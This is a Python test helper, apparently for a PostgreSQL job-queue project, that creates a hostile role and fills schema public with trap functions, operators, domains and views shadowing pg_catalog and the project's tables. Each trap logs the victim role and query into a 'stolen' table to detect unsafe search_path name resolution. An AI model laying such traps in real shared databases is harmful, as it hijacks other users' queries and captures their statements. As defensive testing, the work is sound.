# ruff: noqa: E501
"""A schema `public` full of traps: whatever a session looks up by an unqualified name, it finds somebody else's code.

Each trap notes who ran it, and then does what the real one does, so that the program goes on. There is one for every function
and operator of pg_catalog with the same arguments (found first by a search_path that names public before pg_catalog), one for
every mix of common types that pg_catalog has none for (the better match under any search_path), and types and tables by the
names that we use.
"""

import contextlib
import re
import uuid
from typing import Any

import psycopg

from holdfast import sql

_TYPES = (
    "int2",
    "int4",
    "int8",
    "numeric",
    "float8",
    "text",
    "name",
    "uuid",
    "jsonb",
    "timestamptz",
    "interval",
    "date",
    "bool",
)

_SETUP = """
CREATE TABLE public.stolen (who text, what text, query text);
CREATE SEQUENCE public.sprung;
GRANT INSERT ON public.stolen TO PUBLIC;
GRANT USAGE ON SEQUENCE public.sprung TO PUBLIC;
CREATE FUNCTION public.spring(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
    IF current_user <> '{thief}' THEN
        PERFORM nextval('public.sprung');   -- stays when the transaction does not
        INSERT INTO public.stolen VALUES (current_user, what, current_query());
    END IF;
    RETURN true;
END $f$;
"""

# The same name and arguments as in pg_catalog.
_FUNCTIONS = """
SELECT pg_catalog.format('CREATE FUNCTION public.%%I(%%s) RETURNS %%s LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.spring(%%L); RETURN pg_catalog.%%I(%%s); END $f$',
              p.proname, a.types, pg_catalog.format_type(p.prorettype, NULL), p.oid::regprocedure, p.proname, a.given)
FROM pg_proc p
CROSS JOIN LATERAL (SELECT string_agg(format_type(t, NULL), ', ' ORDER BY n) AS types, string_agg('$' || n, ', ' ORDER BY n) AS given
                    FROM unnest(p.proargtypes) WITH ORDINALITY AS u(t, n)) a
WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset AND p.provariadic = 0 AND p.proname = ANY (%s)
  AND NOT EXISTS (SELECT FROM unnest(p.proargtypes || p.prorettype) AS u(o) JOIN pg_type t ON t.oid = u.o
                  WHERE t.typtype = 'p' AND t.typname NOT IN ('anyelement', 'anyarray', 'void', 'anycompatible', 'anycompatiblearray')
                     OR t.typname = 'void')
"""
_OPERATORS = """
SELECT o.oprname, format_type(o.oprleft, NULL), format_type(o.oprright, NULL), format_type(o.oprresult, NULL)
FROM pg_operator o
WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprkind = 'b' AND o.oprcode <> 0
  AND (format_type(o.oprleft, NULL) = ANY (%(t)s) OR o.oprleft::regtype::text IN ('anyarray', 'anycompatiblearray'))
  AND (format_type(o.oprright, NULL) = ANY (%(t)s) OR o.oprright::regtype::text IN ('anyarray', 'anycompatiblearray', 'text[]'))
"""
_NAMES = """
SELECT format_type(t.oid, NULL) FROM pg_type t WHERE t.typname = ANY (%s) AND t.typnamespace = 'pg_catalog'::regnamespace
UNION SELECT t || '[]' FROM unnest(ARRAY['text', 'uuid']) t
"""
# One that pg_catalog has not, and which therefore is the only exact match.
_MIXED = ("=", "<>", "<", "<=", ">", ">=", "+", "-", "||", "->", "->>", "%", "~")
_MIXED_FUNCTIONS = (
    "mod",
    "floor",
    "left",
    "substr",
    "lpad",
    "format",
    "replace",
    "octet_length",
    "to_timestamp",
    "concat",
    "round",
)


def used_names() -> list[str]:
    """Every name in our SQL that is followed by a parenthesis."""
    texts = [sql.schema(), *(file.read_text(encoding="utf-8") for file in sql.query_files())]
    return sorted(
        {name for text in texts for name in re.findall(r"(?<![.\w])([a-z_0-9]+)\(", text)}
        | {"version", "pg_backend_pid", "set_config"}
    )


class Hostile:
    """Made by a role that may CREATE in public and nothing else."""

    def __init__(self, url: str) -> None:
        self.thief = f"thief_{uuid.uuid4().hex[:10]}"
        self._url = url

    def lay(self) -> None:
        with psycopg.connect(self._url, autocommit=True) as conn:
            conn.execute(
                f"CREATE ROLE {self.thief}; GRANT CREATE, USAGE ON SCHEMA public TO {self.thief}, PUBLIC".encode()
            )
            names = [row[0] for row in conn.execute(_NAMES, [list(_TYPES)])]
            functions = [row[0] for row in conn.execute(_FUNCTIONS, [used_names()])]
            known = conn.execute(_OPERATORS, {"t": names}).fetchall()
            conn.execute(f"SET ROLE {self.thief}".encode())
            conn.execute(_SETUP.format(thief=self.thief).encode())
            for statement in functions:
                conn.execute(statement.encode())
            for number, (operator, left, right, result) in enumerate(known):
                self._operator(
                    conn,
                    f"clone_{number}",
                    operator,
                    left,
                    right,
                    result,
                    f"RETURN $1 OPERATOR(pg_catalog.{operator}) $2",
                )
            self._mixes(conn, {(o, left, right) for o, left, right, _ in known})
            for name in (
                "text",
                "uuid",
                "jsonb",
                "float8",
                "timestamptz",
                "bytea",
                "numeric",
                "interval",
                "date",
                "oid",
                "regclass",
            ):
                conn.execute(
                    f"CREATE DOMAIN public.{name} AS pg_catalog.{name} CHECK (public.spring('type {name}'))".encode()
                )
            for name in (
                "work",
                "claims",
                "jobs",
                "queues",
                "pg_class",
                "pg_namespace",
                "pg_settings",
                "pg_stat_activity",
                "pg_database",
                "pg_proc",
            ):
                conn.execute(f"CREATE VIEW public.{name} AS SELECT public.spring('relation {name}')".encode())
                conn.execute(f"GRANT SELECT ON public.{name} TO PUBLIC".encode())

    def _operator(
        self, conn: Any, function: str, name: str, left: str, right: str, result: str, body: str
    ) -> None:
        conn.execute(
            f"CREATE FUNCTION public.{function}({left}, {right}) RETURNS {result} LANGUAGE plpgsql AS "
            f"$f$ BEGIN PERFORM public.spring('operator {left} {name} {right}'); {body}; END $f$; "
            f"CREATE OPERATOR public.{name} (FUNCTION = public.{function}, LEFTARG = {left}, RIGHTARG = {right})".encode()
        )

    def _mixes(self, conn: Any, known: set[tuple[str, str, str]]) -> None:
        kinds = (
            "smallint",
            "integer",
            "bigint",
            "numeric",
            "text",
            "name",
            "uuid",
            "jsonb",
            "timestamp with time zone",
            "interval",
        )
        for n, (operator, left, right) in enumerate((o, a, b) for o in _MIXED for a in kinds for b in kinds):
            if (operator, left, right) not in known:
                self._operator(conn, f"mix_{n}", operator, left, right, "boolean", "RETURN true")
        for name in _MIXED_FUNCTIONS:
            for left in kinds:
                for right in kinds:
                    body = f"$f$ BEGIN PERFORM public.spring('{name}({left}, {right})'); RETURN $1; END $f$"
                    with contextlib.suppress(psycopg.errors.DuplicateFunction):  # a clone
                        conn.execute(
                            f"CREATE FUNCTION public.{name}({left}, {right}) RETURNS {left} LANGUAGE plpgsql AS {body}".encode()
                        )

    def stolen(self) -> list[tuple[str, str]]:
        """(what, the statement) of each trap that ran as another role; the count also of what was rolled back."""
        with psycopg.connect(self._url, options="-c search_path=pg_catalog") as conn:
            rows = conn.execute(
                "SELECT DISTINCT what, left(query, 200) FROM public.stolen ORDER BY 1, 2"
            ).fetchall()
            (called,) = conn.execute("SELECT is_called FROM public.sprung").fetchone() or (False,)
        return rows or ([("rolled back", "")] if called else [])

    def clear(self) -> None:
        with psycopg.connect(self._url, autocommit=True) as conn:
            conn.execute(f"DROP OWNED BY {self.thief} CASCADE; DROP ROLE {self.thief}".encode())
